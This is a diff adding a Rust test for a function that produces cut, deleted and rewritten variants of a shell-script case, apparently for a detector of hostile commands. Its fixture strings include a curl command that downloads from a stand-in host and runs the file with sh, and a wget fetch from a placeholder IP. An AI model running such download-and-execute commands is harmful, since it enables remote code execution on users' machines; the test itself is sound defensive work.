@@ -537,3 +537,44 @@ fn every_variant_reports_exactly_its_approved_output() {
         wrong.join("\n\n")
     );
 }
+
+#[test]
+fn variants_are_bounded_distinct_and_what_their_kind_says() {
+    let text = "#!/bin/sh\nset -e\ncurl -fsSL \"https://h.example/é\" -o /tmp/a\nsh /tmp/a\n";
+    let other = "#!/bin/sh\nwget -q http://203.0.113.9/b\n";
+    let vs = variants(text, "sh", &[3, 4], other, 7);
+    assert!(vs.len() <= 2 * MAX_LINES + MAX_CUTS + MAX_DELETIONS + 1 + REWRITES_PER_CASE);
+    let mut texts: Vec<&str> = vs.iter().map(|v| v.text.as_str()).collect();
+    texts.push(text);
+    texts.sort_unstable();
+    texts.dedup();
+    assert_eq!(
+        texts.len(),
+        vs.len() + 1,
+        "each variant differs from the case and the others"
+    );
+    let first_hit = text.find("curl").expect("the hit line");
+    for v in &vs {
+        match v.kind {
+            "cut" | "head" => {
+                assert!(
+                    text.starts_with(&v.text) && v.text.len() > first_hit,
+                    "{}",
+                    v.text
+                );
+            }
+            "delete" => assert_eq!(words(&v.text).len() + 1, words(text).len()),
+            "ending" => assert!(v.text.starts_with(text.trim_end())),
+            "line" => assert!(["curl", "sh /tmp/a"].iter().any(|l| v.text.starts_with(l))),
+            _ => {}
+        }
+    }
+    // The same case gives the same variants.
+    let again = variants(text, "sh", &[3, 4], other, 7);
+    assert!(
+        vs.iter()
+            .zip(&again)
+            .all(|(a, b)| a.text == b.text && a.kind == b.kind)
+    );
+    assert!(vs.iter().any(|v| v.kind == "cut") && vs.iter().any(|v| v.kind == "delete"));
+}
